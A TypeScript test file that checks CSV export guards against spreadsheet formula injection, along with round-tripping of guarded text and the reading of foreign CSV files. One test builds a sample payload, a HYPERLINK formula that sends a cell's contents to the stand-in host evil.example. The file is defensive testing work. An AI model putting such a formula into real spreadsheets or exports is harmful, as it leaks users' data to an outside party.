import fc from 'fast-check';
import { expect, it } from 'vitest';
import { CsvReader } from '../../../src/pairs/containers/CsvReader';
import { guardFormula, unguardFormula } from '../../../src/pairs/containers/formulaGuard';
import { csvCell } from '../../../src/pairs/export/csvCell';

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

it.each(signs)('no cell of an export begins with %j, and the text comes back whole', (sign) => {
  const text = `${sign}HYPERLINK("https://evil.example?leak="&A1)`;
  expect(csvCell(text)).toMatch(/^"?'/);
  expect(unguardFormula(guardFormula(text))).toBe(text);
});

it('every text comes back, apostrophes too; numbers stay numbers', () => {
  const unit = fc.constantFrom("'", 'x', ...signs);
  fc.assert(fc.property(fc.string({ unit }), (text) => unguardFormula(guardFormula(text)) === text));
  expect([csvCell(-1.5), csvCell("don't"), csvCell("'quoted'")]).toEqual(['-1.5', "don't", "'quoted'"]);
});

it('files of other programs are read as they are', () => {
  const reader = new CsvReader(',');
  const rows = [...reader.push(new TextEncoder().encode("a,b\n'=1,-2\n")), ...reader.end()];
  expect(rows).toMatchObject([{ columns: { a: "'=1", b: '-2' } }]);
});
